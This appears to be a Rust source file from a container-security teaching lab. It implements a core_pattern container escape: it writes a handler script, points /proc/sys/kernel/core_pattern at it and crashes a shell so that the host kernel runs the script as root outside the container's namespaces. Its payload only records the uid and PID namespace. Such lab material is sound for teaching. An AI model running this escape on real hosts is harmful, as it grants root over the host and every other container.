//! `core_pattern`: the kernel's own way to start a program, as root, outside of every namespace.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::time::{Duration, Instant};

use super::only_in_kernel_lab;
use crate::told;

/// What the host's kernel runs for us. It is started in the host's root; `$1` is our own, seen from there.
const PROGRAM: &str = "#!/bin/sh\n{ id -u; readlink /proc/self/ns/pid; } > \"$1/outcome\"\n";

// ANCHOR: attack
/// If the pattern begins with `|`, the kernel runs the rest as a program when a process crashes: as root, with the
/// root and the namespaces of the machine's first process. `%P` becomes the PID of who crashed, outside: and by
/// `/proc/PID/root` the program is found in our own root. There is one pattern for the whole machine.
pub fn crash(_: &[String]) -> Result<String, String> {
    only_in_kernel_lab()?;
    told("write the program", fs::write("/handler", PROGRAM))?;
    told("chmod", fs::set_permissions("/handler", fs::Permissions::from_mode(0o755)))?;
    let pattern = "/proc/sys/kernel/core_pattern";
    told(&format!("write {pattern}"), fs::write(pattern, "|/proc/%P/root/handler /proc/%P/root"))?;
    told("crash a shell", Command::new("sh").args(["-c", "kill -SEGV $$"]).status())?;
    outcome("/outcome")
}
// ANCHOR_END: attack

/// What a program that the kernel ran has left for us.
pub fn outcome(file: &str) -> Result<String, String> {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(3) {
        match fs::read_to_string(file) {
            Ok(text) if text.lines().count() == 2 => {
                let mine = told("readlink", fs::read_link("/proc/self/ns/pid"))?;
                let [uid, namespace] =
                    [text.lines().next(), text.lines().nth(1)].map(Option::unwrap_or_default);
                let whose = if mine.display().to_string() == namespace { "our" } else { "the host's" };
                return Ok(format!("the kernel ran our program as uid {uid} in {whose} PID namespace"));
            }
            _ => std::thread::sleep(Duration::from_millis(20)),
        }
    }
    Err("the kernel did not run our program".into())
}
